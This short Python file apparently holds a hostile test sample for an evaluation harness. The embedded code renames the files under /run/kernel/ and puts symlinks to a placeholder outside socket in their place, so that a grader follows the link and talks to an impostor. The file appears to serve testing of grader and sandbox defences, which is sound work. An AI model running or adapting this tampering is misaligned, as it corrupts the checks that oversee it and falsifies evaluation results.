"""Put a link to a socket outside in the place of the kernel's own, for the grader to follow."""

from hostile import tries

ATTACK = tries("""
import glob, os

for path in glob.glob("/run/kernel/*"):
    try:
        os.rename(path, path + ".moved")
        os.symlink("@SOCKET@", path)
    except OSError as refused:
        print(refused)
""")
